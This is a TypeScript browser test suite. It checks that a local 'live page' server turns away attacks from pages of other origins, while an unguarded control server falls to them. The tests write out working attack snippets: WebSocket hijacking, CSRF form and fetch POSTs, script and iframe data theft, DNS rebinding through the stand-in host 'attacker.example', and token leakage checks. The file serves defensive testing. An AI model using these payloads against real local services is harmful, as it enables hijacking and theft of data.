/** What pages of other origins, in the same browser, can do to the live page. Each attack succeeds against a control. */

import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type Browser, chromiumPath, startChromium } from '../../helpers/chromium.js';
import { LiveServer, TOKEN } from '../../helpers/live-server.js';
import { STORY } from '../../helpers/live-story.js';

/** A name that the attacker owns, and has pointed at this machine. */
const ATTACKER = 'attacker.example';
const SECRET = 'api.example.com';

describe.skipIf(chromiumPath === undefined)('attacks on the live page from other pages in Chromium', () => {
  let browser: Browser;
  let page: Page;
  let evil: Server;
  let guarded: LiveServer;
  let unchecked: LiveServer;
  /** What the attacker's server was sent. */
  let heard: IncomingMessage[] = [];

  beforeAll(async () => {
    browser = await startChromium([`--host-resolver-rules=MAP ${ATTACKER} 127.0.0.1`]);
    evil = await listening((request) => void heard.push(request));
    guarded = await LiveServer.open(STORY.middle, { control: true });
    unchecked = await LiveServer.open(STORY.middle, { control: true, unchecked: true });
  });
  afterAll(async () => {
    await browser.close();
    evil.close();
    await guarded[Symbol.asyncDispose]();
    await unchecked[Symbol.asyncDispose]();
  });
  beforeEach(async () => {
    heard = [];
    page = await browser.context.newPage();
  });
  afterEach(() => page.close());

  const evilPages = [
    ['another port', (): string => `http://127.0.0.1:${portOf(evil)}/`],
    ['another host name', (): string => `http://${ATTACKER}:${portOf(evil)}/`],
  ] as const;

  /** Opens a WebSocket from the page; what comes first over it, or the code by which it was closed. */
  function socketFrom(url: string): Promise<string> {
    const events = `${url.replace('http', 'ws')}/api/run/events`;
    return page.evaluate<string>(`new Promise((resolve) => {
      const socket = new WebSocket('${events}', ['case-tracker.v1', 'bearer.${TOKEN}']);
      socket.onmessage = ({ data }) => { socket.close(); resolve(data); };
      socket.onclose = ({ code }) => resolve('closed ' + code);
    })`);
  }

  describe.each(evilPages)('from a page at %s', (_, address) => {
    test('a WebSocket is refused, even with the right token; without the guard it is taken over', async () => {
      await page.goto(address());
      expect(await socketFrom(unchecked.url)).toContain(SECRET);
      expect(await socketFrom(guarded.url)).toBe('closed 1006');
      expect(guarded.joined).toBe(0);
    });

    test('a POST cannot stop the run; without the guard it does', async () => {
      const before = unchecked.stops;
      for (const { url } of [unchecked, guarded]) {
        await page.goto(address());
        await page.evaluate(`fetch('${url}/api/run/stop', { method: 'POST', mode: 'no-cors' }).catch(() => {})`);
        await page.evaluate(
          `fetch('${url}/api/run/stop', { method: 'POST', headers: { authorization: 'Bearer ${TOKEN}' } }).catch(() => {})`,
        );
        await page.setContent(`<form method="post" action="${url}/api/run/stop"><button>Win</button></form>`);
        await Promise.all([page.waitForNavigation(), page.click('button')]);
      }
      expect(unchecked.stops).toBe(before + 2);
      expect(guarded.stops).toBe(0);
    });

    test('fetch, script and frame get nothing of it; of a careless server they get all', async () => {
      const careless = await listening((request, response) => {
        response.setHeader('access-control-allow-origin', '*');
        response.setHeader('access-control-allow-headers', 'authorization');
        response.setHeader('content-type', request.url === '/api/run' ? 'text/javascript' : 'text/html');
        response.end(`globalThis.leaked = '${SECRET}'`);
      });
      const loot = async (url: string): Promise<string[]> => {
        await page.goto(address());
        const fetched = await page.evaluate<string>(
          `fetch('${url}/api/run', { headers: { authorization: 'Bearer ${TOKEN}' } }).then((answer) => answer.text()).catch(String)`,
        );
        const script = await page.evaluate<string>(`new Promise((resolve) => {
          const script = document.createElement('script');
          script.onload = script.onerror = () => resolve(String(globalThis.leaked));
          script.src = '${url}/api/run';
          document.head.append(script);
        })`);
        await page.evaluate(`new Promise((resolve) => {
          const frame = document.createElement('iframe');
          frame.onload = resolve;
          frame.src = '${url}/';
          document.body.append(frame);
        })`);
        const framed = await page.frames()[1]?.content();
        return [fetched, script, /leaked|case-tracker/.test(framed ?? '') ? 'framed' : 'not framed'];
      };
      const taken = await loot(`http://127.0.0.1:${portOf(careless)}`);
      careless.close();
      expect(taken).toEqual([expect.stringContaining(SECRET), SECRET, 'framed']);
      expect(await loot(guarded.url)).toEqual(['TypeError: Failed to fetch', 'undefined', 'not framed']);
    });
  });

  test('a name that was rebound to this machine is refused with 421, WebSockets too; without the guard it is as good as ours', async () => {
    const rebound = async (isUnchecked: boolean): Promise<unknown[]> => {
      const bait = await listening(() => {});
      const port = portOf(bait);
      await page.goto(`http://${ATTACKER}:${port}/`);
      // Now the name leads to the live page: same host and port, so for the browser it is the same origin.
      bait.closeAllConnections();
      await new Promise((resolve) => void bait.close(resolve));
      await using _server = await LiveServer.open(STORY.middle, { port, unchecked: isUnchecked });
      const answer = await page.evaluate<string>(
        `fetch('/api/run', { headers: { authorization: 'Bearer ${TOKEN}' } }).then(async (answer) => answer.status + await answer.text())`,
      );
      return [answer, await socketFrom(`http://${ATTACKER}:${port}`)];
    };
    expect(await rebound(true)).toEqual([expect.stringContaining(SECRET), expect.stringContaining(SECRET)]);
    expect(await rebound(false)).toEqual([expect.stringMatching(/^421/), 'closed 1006']);
  });

  test('no cookie, no token and no Referer reach another port; a cookie of another server does', async () => {
    const baker = await listening((_, response) => {
      response.setHeader('set-cookie', 'session=secret; SameSite=Strict');
      response.end();
    });
    const elsewhere = `http://127.0.0.1:${portOf(evil)}/`;
    const sent = async (from: string): Promise<string> => {
      heard = [];
      await page.goto(from);
      await page.evaluate(`location.href = '${elsewhere}'`);
      await page.waitForURL(elsewhere);
      return JSON.stringify(heard.filter(({ url }) => url === '/').map(({ url, headers }) => [url, headers]));
    };
    expect(await sent(`http://127.0.0.1:${portOf(baker)}/#${TOKEN}`)).toMatch(/session=secret.*/);
    baker.close();
    await browser.context.clearCookies();
    const ours = await sent(guarded.address);
    expect(ours).toContain('"/"');
    expect(ours).not.toMatch(/cookie|referer/i);
    expect(ours).not.toContain(TOKEN);
    expect(await browser.context.cookies()).toEqual([]);
  });
});

/** A server on a free port that answers with an empty page where the listener has not answered. */
function listening(listener: (request: IncomingMessage, response: ServerResponse) => void): Promise<Server> {
  const server = createServer((request, response) => {
    listener(request, response);
    if (response.writableEnded) return;
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>evil</title>');
  });
  return new Promise((resolve) => void server.listen(0, '127.0.0.1', () => resolve(server)));
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port;
}
